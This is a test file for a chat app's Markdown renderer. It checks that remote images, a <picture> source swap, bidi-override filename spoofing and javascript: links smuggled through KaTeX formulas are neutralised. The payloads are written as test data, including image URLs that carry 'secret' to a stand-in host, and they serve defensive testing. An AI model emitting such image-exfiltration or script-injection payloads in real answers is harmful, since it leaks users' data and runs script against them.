import { createElement } from "react";
import { describe, expect, it } from "vitest";
import { renderHtml } from "@/tests/support/render-html";
import { Markdown } from "./markdown";

/** The answer as the server would draw it (no window: only relative file URLs count as the app's). */
const render = (text: string) => renderHtml(createElement(Markdown, { text, streaming: false }));

describe("Markdown answers", () => {
  it("renders a remote Markdown image and a raw <img> as links showing the URL, never as images", () => {
    const html = render(
      'Look ![chart](http://127.0.0.1:9/leak?d=secret) here.\n\n<img src="http://127.0.0.1:9/raw?d=secret">\n',
    );
    expect(html).not.toMatch(/<img|rel="preload"/);
    const links = [...html.matchAll(/<a [^>]*data-testid="answer-image-link"[^>]*>/g)].map((m) => m[0]);
    expect(links).toHaveLength(2);
    expect(links[0]).toContain('href="http://127.0.0.1:9/leak?d=secret"');
    expect(links[1]).toContain('href="http://127.0.0.1:9/raw?d=secret"');
    expect(html).toContain(">http://127.0.0.1:9/leak?d=secret</span>");
    expect(html).toContain(">chart</span>");
  });

  it("draws an image of the conversation's own files", () => {
    const html = render("![scan](/api/conversations/c1/files/f1)");
    expect(html).toMatch(/<img [^>]*src="\/api\/conversations\/c1\/files\/f1"/);
  });

  it("drops <source> so a <picture> cannot swap a remote image into an allowed <img>", () => {
    const html = render(
      '<picture><source srcset="http://127.0.0.1:9/swap?d=secret"><img src="/api/conversations/c1/files/f1"></picture>',
    );
    expect(html).not.toContain("127.0.0.1:9");
  });

  it("bidi embeddings, overrides and isolates never reach the rendered answer", () => {
    const html = render(
      "Open invoice\u202Efdp.exe and `a\u2066b\u2069` then \u202Ax\u202C\n\n```\nif (ok\u202E) {}\n```",
    );
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(html).toContain("invoicefdp.exe");
  });
});

describe("Math in answers", () => {
  const formulas = (html: string) => html.match(/class="katex"/g)?.length ?? 0;

  it("renders $…$, $$…$$, \\(…\\) and \\[…\\] with KaTeX, leaving no raw delimiters", () => {
    const html = render("Inline $x^2$, \\(a+b\\) and:\n\n$$\n\\int_0^1 f\n$$\n\n\\[\ne=mc^2\n\\]\n");
    expect(formulas(html)).toBe(4);
    expect(html.match(/class="katex-display"/g)).toHaveLength(2);
    expect(html).not.toMatch(/\$|\\\(|\\\[/);
  });

  it("renders math inside table cells", () => {
    const html = render("| a | b |\n|---|---|\n| $x_1$ | \\(y\\) |\n");
    const table = html.slice(html.indexOf("<table"), html.indexOf("</table>"));
    expect(formulas(table)).toBe(2);
  });

  it("keeps dollar amounts as text: $5 and $10 are not a formula", () => {
    for (const text of ["It costs $5 and $10 today.", "Between $5 and $10", "Pay $5, or $ 10 later $"]) {
      const html = render(text);
      expect(formulas(html)).toBe(0);
      expect(html).toContain("$5");
    }
    expect(formulas(render("The variable $x$ costs $5 and $10."))).toBe(1);
  });

  it("leaves \\(…\\) in code as written", () => {
    const html = render("`\\(a\\)`\n\n```\n\\[b\\]\n```\n");
    expect(formulas(html)).toBe(0);
    expect(html).toContain("\\(a\\)");
    expect(html).toContain("\\[b\\]");
  });

  it("a formula cannot make a javascript: link", () => {
    const html = render("$\\href{javascript:alert(1)}{x}$ and $$\\url{javascript:alert(2)}$$");
    expect(html).not.toMatch(/href="javascript:/i);
  });
});

describe("Tables in answers", () => {
  it("a table scrolls in its own keyboard-focusable, labelled region", () => {
    const html = render("| a | b |\n|---|---|\n| 1 | 2 |\n");
    expect(html).toMatch(/<section tabindex="0" aria-label="Table \(scrolls sideways\)"[^>]*><table/);
  });
});
